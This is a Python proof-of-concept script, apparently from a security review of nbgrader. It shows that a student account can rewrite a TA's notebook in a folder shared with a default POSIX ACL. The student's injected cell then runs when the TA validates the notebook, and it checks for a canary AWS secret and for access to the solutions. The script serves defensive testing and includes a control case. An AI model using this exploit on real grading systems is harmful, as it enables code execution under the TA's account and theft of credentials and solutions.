"""a03: the Validate guard (formgrader_guard._private_copy) refuses a notebook owned by another user, but not one of
the TA's own that another user may write. A shared folder with a default POSIX ACL (d:u:65534:rw, the usual way to
share a folder with one person) gives that user write access to every file the TA creates there, while mode bits
and owner stay the TA's. The TA (root, canaries) copies the release notebook there, the student (uid 65534)
rewrites it in place (same inode, owner root), and the TA validates it from a private folder of hers (0700).
Control: the same with no ACL (the student cannot write: her write fails, Validate runs the TA's notebook)."""
import os, struct, subprocess, json, shutil, nbformat

BASE = "/tmp/attack45-root-a03"
shutil.rmtree(BASE, ignore_errors=True)
os.makedirs(BASE); os.chmod(BASE, 0o755)
NB = "CLONE/.venv/bin/nbgrader"
ENV = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
MARK = f"{BASE}/marks"; os.mkdir(MARK); os.chmod(MARK, 0o777)

def acl(entries):
    out = struct.pack("<I", 2)
    for tag, perm, ident in entries:
        out += struct.pack("<HHI", tag, perm, ident)
    return out

def as_student(fn):
    pid = os.fork()
    if pid == 0:
        try:
            os.setgroups([]); os.setgid(65534); os.setuid(65534); fn(); os._exit(0)
        except BaseException as e:
            print("  student's write failed:", e, flush=True); os._exit(1)
    os.waitpid(pid, 0)

hostile = nbformat.read("CLONE/release/ps1_memory/ps1_memory.ipynb", 4)
hostile.cells[1].source = ("import os, json\nopen('%s/ran-%%d' %% os.getpid(), 'w').write(json.dumps({'uid': os.getuid(), "
                           "'canary': os.environ.get('AWS_SECRET_ACCESS_KEY') == 'AKIASECRETCANARY123', "
                           "'solutions': os.path.exists('CLONE/source/ps1_memory/ps1_memory.ipynb')}))\n" % MARK
                           ) + hostile.cells[1].source
text = nbformat.writes(hostile)
private = "/root/attack45-a03-private"; shutil.rmtree(private, ignore_errors=True); os.makedirs(private, mode=0o700)

for case in ("default_acl", "no_acl_control"):
    share = f"{BASE}/{case}"; os.mkdir(share); os.chmod(share, 0o755)
    if case == "default_acl":
        e = [(1, 7, 0xFFFFFFFF), (2, 7, 65534), (4, 5, 0xFFFFFFFF), (0x10, 7, 0xFFFFFFFF), (0x20, 5, 0xFFFFFFFF)]
        os.setxattr(share, "system.posix_acl_access", acl(e))
        os.setxattr(share, "system.posix_acl_default", acl([(1, 6, 0xFFFFFFFF), (2, 6, 65534), (4, 4, 0xFFFFFFFF), (0x10, 6, 0xFFFFFFFF), (0x20, 4, 0xFFFFFFFF)]))
    nbp = f"{share}/ps1_memory.ipynb"
    open(nbp, "w").write(open("CLONE/release/ps1_memory/ps1_memory.ipynb").read())  # the TA writes her own notebook (as an editor does: open/create, mode 0666 less the umask, or the default ACL)
    as_student(lambda: open(nbp, "r+").write(text) if False else (lambda f: (f.seek(0), f.truncate(), f.write(text), f.close()))(open(nbp, "r+")))
    st = os.stat(nbp)
    for f in os.listdir(MARK): os.unlink(os.path.join(MARK, f))
    r = subprocess.run([NB, "validate", nbp], cwd=private, env=ENV, capture_output=True, text=True, timeout=300)
    ran = [json.load(open(os.path.join(MARK, f))) for f in os.listdir(MARK)]
    print(f"{case}: notebook owner {st.st_uid} mode {oct(st.st_mode & 0o777)} rc={r.returncode} student's code ran: {ran}\n"
          f"   stdout/err tail: {(r.stdout + r.stderr).strip()[-250:]!r}", flush=True)
shutil.rmtree(BASE); shutil.rmtree(private)
